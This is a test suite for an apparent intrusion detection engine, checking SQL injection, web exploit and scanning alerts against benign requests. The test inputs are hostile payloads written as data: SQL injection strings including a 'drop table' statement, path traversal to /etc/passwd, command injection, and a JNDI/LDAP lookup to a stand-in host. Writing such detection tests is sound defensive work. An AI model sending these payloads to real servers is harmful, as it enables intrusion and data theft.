import { describe, expect, it } from 'vitest';
import { AppEvent } from '../../../contract/packet-batch.ts';
import { alertsOf, conversation, type Hand, times } from '../detections.suite.ts';

const CLIENT = '198.51.100.9';
const SERVER = '192.0.2.1';
const REQUEST = AppEvent.HTTP_REQUEST | AppEvent.HTTP_HEADERS_END;

/** One request with its answer on a connection of its own. */
function exchange(t: number, sport: number, request: string, httpStatus: number): Hand[] {
  const talk = conversation(t, CLIENT, SERVER, 80, sport, { request, events: REQUEST });
  return talk.map((packet) =>
    packet.src === SERVER && packet.len === 200
      ? { ...packet, httpStatus, events: AppEvent.HTTP_RESPONSE }
      : packet,
  );
}

function asked(...targets: string[]): ReturnType<typeof alertsOf> {
  return alertsOf(targets.flatMap((target, i) => exchange(i, 30_000 + i, `GET ${target}`, 200)));
}

describe('SQL_Injection', () => {
  it.each([
    ['union select', '/item?id=1%20UNION%20ALL%20SELECT%20name,pass%20FROM%20users'],
    ['encoded twice', '/item?id=1%2520union%2520select%25201'],
    ['comments for blanks', '/item?id=1/**/union/*!50000select*/1'],
    ['tautology', "/login?user=admin'%20or%20'1'='1"],
    ['time delay', '/item?id=1)%20AND%20SLEEP(5)--'],
    ['further statement', "/item?id=1';drop%20table%20users--"],
    ['schema', '/item?id=1+and+(select+count(*)+from+information_schema.tables)>0'],
  ])('knows %s', (_, target) => {
    expect(asked(target)).toMatchObject([
      { alert_type: 'SQL_Injection', source_ip: CLIENT, destination_ip: SERVER, decision: 'ALERT' },
    ]);
  });

  it('blocks after several, on connections that prove the client', () => {
    const requests = times(6, (i) => `/item?id=${i}%20union%20select%20${i}`);
    expect(asked(...requests)).toMatchObject([{ decision: 'BLOCK' }]);
  });

  it.each([
    ['a search for words of SQL', '/search?q=how+to+select+a+union+in+my+town'],
    ['an apostrophe', "/people?name=O'Neill"],
    ['a list in an order', '/items?sort=name&order=by+price'],
    ['words with or', '/search?q=black+or+white'],
    ['two fields of the same value', '/items?min=1&max=1'],
    ['a semicolon between parameters', '/items;jsessionid=8F2A?page=2'],
  ])('is not %s', (_, target) => {
    expect(asked(target)).toEqual([]);
  });
});

describe('Web_Exploit', () => {
  it.each([
    ['path traversal', '/static/../../../../etc/passwd'],
    ['encoded traversal', '/cgi-bin/%2e%2e%2f%2e%2e%2fbin/sh'],
    ['command injection', '/ping?host=127.0.0.1;cat%20/var/log'],
    ['a JNDI look-up', '/?x=$%7bjndi:ldap://192.0.2.66/a%7d'],
    ['PHP wrappers', '/index.php?page=php://filter/convert'],
    ['PHPUnit', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
  ])('knows %s', (_, target) => {
    expect(asked(target)).toMatchObject([{ alert_type: 'Web_Exploit', source_ip: CLIENT }]);
  });

  it.each([
    ['what a router answers to', '/HNAP1'],
    ['a version range', '/compare/v1.0...v2.0'],
    ['a step up', '/docs/guide/../index.html'],
    ['parameters named like commands', '/shop?cat=5&id=7&sh=1'],
    ['a link in a parameter', '/login?next=https://example.org/start'],
    ['words for programs', '/search?q=cat+and+id+card'],
  ])('is not %s', (_, target) => {
    expect(asked(target)).toEqual([]);
  });
});

describe('Web_Scan', () => {
  const visit = (count: number, seconds: number, status: (i: number) => number, same = false) =>
    alertsOf(
      times(count, (i) =>
        exchange((i * seconds) / count, 20_000 + i, `GET /${same ? 'page' : `p${i}`}`, status(i)),
      ).flat(),
    );

  it('is a client that asks for many things that are not there', () => {
    expect(visit(120, 30, () => 404)).toMatchObject([
      {
        ...{ alert_type: 'Web_Scan', source_ip: CLIENT, destination_ip: SERVER },
        ...{ destination_port: 80, decision: 'BLOCK' },
      },
    ]);
  });

  const tries = (requests: readonly string[], status: (request: string) => number) =>
    alertsOf(
      requests.flatMap((request, i) => exchange(i / 20, 20_000 + i, request, status(request))),
    );
  const isPage = (request: string) => /^(GET|HEAD) /.test(request);

  it('is a client that tries which methods a server has, and nothing that it asks for is there', () => {
    const probes = ['OPTIONS /', 'PROPFIND /', 'TRACE /', 'POST /a', 'GET /b', 'GET /c', 'HEAD /d'];
    const requests = [...probes, ...probes, ...probes];
    expect(tries(requests, (request) => (isPage(request) ? 404 : 405))).toMatchObject([
      { alert_type: 'Web_Scan', source_ip: CLIENT, destination_ip: SERVER },
    ]);
  });

  it('is not a file manager that looks for shares on a server without', () => {
    const looks = times(12, (i) => [`OPTIONS /s${i}`, `PROPFIND /s${i}`, `GET /s${i}`]).flat();
    expect(tries(looks, (request) => (isPage(request) ? 404 : 405))).toEqual([]);
  });

  it('is not a program that uses all methods of an interface, some of them in vain', () => {
    const calls = times(12, (i) => [`GET /x${i}`, `PUT /x${i}`, `PATCH /x${i}`, `DELETE /x${i}`]);
    expect(tries(calls.flat(), (request) => (isPage(request) ? 200 : 405))).toEqual([]);
  });

  it('is not a crawler that follows links', () => {
    expect(visit(120, 30, (i) => (i % 5 === 0 ? 404 : 200))).toEqual([]);
  });

  it('is not a test that asks for one page that is gone', () => {
    expect(visit(120, 30, () => 404, true)).toEqual([]);
  });

  it('is not somebody who finds broken links over the day', () => {
    expect(visit(120, 7_200, () => 404)).toEqual([]);
  });
});
